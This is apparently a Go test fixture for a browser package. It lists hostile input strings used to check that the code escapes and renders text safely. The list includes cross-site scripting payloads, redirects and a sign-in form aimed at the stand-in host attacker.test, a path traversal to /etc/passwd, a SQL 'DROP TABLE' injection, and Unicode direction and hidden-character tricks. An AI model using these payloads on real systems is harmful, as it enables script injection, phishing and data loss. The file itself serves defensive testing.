package browser

import "strings"

// attacks has texts of an attacker that try to run a script, to lead to another page, or
// to show something false. A script that runs calls pwned.
var attacks = []string{
	`<script>pwned()</script>`,
	`"><img src=x onerror=pwned()>`,
	`'><svg/onload=pwned()>`,
	"`><body onpageshow=pwned()>",
	`" onfocus="pwned()" autofocus tabindex="1`,
	`' onmouseover='pwned()' style='position:fixed;inset:0`,
	`</title></textarea></style></script><script>pwned()</script>`,
	`javascript:pwned()`,
	`data:text/html,<script>opener.pwned()</script>`,
	`<a href="javascript:pwned()">click</a>`,
	`<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
	`<math><mtext></p><style><!--</style><img src onerror=pwned()>`,
	`<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
	`<table><td><form action=//attacker.test><button>Sign in`,
	`<base href="https://attacker.test/"><meta http-equiv=refresh content="0;url=https://attacker.test/">`,
	`<link rel=stylesheet href=https://attacker.test/x.css><style>*{display:none}</style>`,
	`&lt;script&gt;pwned()&lt;/script&gt;`,
	`&#60;img src=x onerror=pwned()&#62;`,
	`\u003cimg src=x onerror=pwned()\u003e`,
	`"}]}` + "</tr><tr data-key=x>" + `<td>forged</td>`,
	`{{constructor.constructor('pwned()')()}}${pwned()}#{pwned()}`,
	`__proto__`, `constructor`, `toString`,
	`../../etc/passwd?x=1&y=2#z`, `%3Cscript%3Epwned()%3C/script%3E`,
	// These texts change the direction, hide text, or end a line.
	"nightly\u202etroper\u202c", "a\u2066b\u2069\u200bc\u00ad\ufeff", "\u2028pwned()\u2029",
	"e" + strings.Repeat("\u0301", 60), // one letter with many marks above it
	strings.Repeat("\u05e9", 127),      // right to left, 254 bytes
	strings.Repeat("\ufdfd", 85),       // the widest character, 255 bytes
	strings.Repeat("W", 255),
	strings.Repeat("\U0001f9d1\u200d\U0001f680", 23), // 253 bytes
	`?prefix=&sort=held`, ` leading and trailing `, `'; DROP TABLE locks; --`,
}
